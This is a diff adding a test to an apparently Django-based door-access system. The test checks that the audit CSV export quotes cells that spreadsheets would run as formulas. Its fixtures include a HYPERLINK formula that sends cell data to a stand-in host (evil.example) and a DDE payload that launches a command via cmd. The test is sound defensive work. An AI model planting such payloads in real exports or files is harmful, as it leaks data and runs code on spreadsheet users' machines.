@@ -147,3 +147,39 @@ def test_dashboard_renders_state_for_watchers_only(client, log) -> None:
     page = client.get(reverse("dashboard")).content.decode()
     assert "Main entrance" in page and "Ada Lovelace" in page and f'data-door-id="{log["main"].pk}"' in page
     assert "Lock down all doors" not in page  # no operate permission: no action buttons
+
+
+def _export_rows(content: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(content.decode())))
+
+
+def test_csv_export_quotes_formula_cells(client, async_client, auditor) -> None:
+    """CSV injection: names that a spreadsheet would run as formulas are exported as text."""
+    from asgiref.sync import async_to_sync
+
+    evil_door = Door.objects.create(name='=HYPERLINK("https://evil.example/?d="&A1,"open")')
+    evil_person = Person.objects.create(name="+1+cmd|' /C calc'!A0", external_id="-2+3")
+    event = event_make(
+        door_id=evil_door.pk, person_id=evil_person.pk, device_uid="@SUM(1,2)", similarity=-0.25, margin=-0.5
+    )
+    tabbed = Door.objects.create(name="\t=1+1")
+    event_make(door_id=tabbed.pk, device_uid="\rcam", occurred_at=T0 + dt.timedelta(minutes=1))
+    client.force_login(auditor)
+    async_client.force_login(auditor)
+
+    async def via_asgi() -> bytes:
+        response = await async_client.get(reverse("audit_export"))
+        return b"".join([chunk async for chunk in response.streaming_content])
+
+    sync_rows = _export_rows(b"".join(client.get(reverse("audit_export")).streaming_content))
+    for rows in (sync_rows, _export_rows(async_to_sync(via_asgi)())):
+        by_id = {int(r["id"]): r for r in rows}
+        row = by_id[event.pk]
+        assert row["door"] == "'" + evil_door.name
+        assert row["person"] == "'" + evil_person.name and row["person_external_id"] == "'-2+3"
+        assert row["device_uid"] == "'@SUM(1,2)"
+        assert row["similarity"] == "-0.2500" and row["margin"] == "-0.5000"  # numbers stay numbers
+        other = next(r for r in rows if int(r["id"]) != event.pk)
+        assert other["door"] == "'\t=1+1" and other["device_uid"] == "'\rcam"
+        for cell in (c for r in rows for c in r.values()):
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
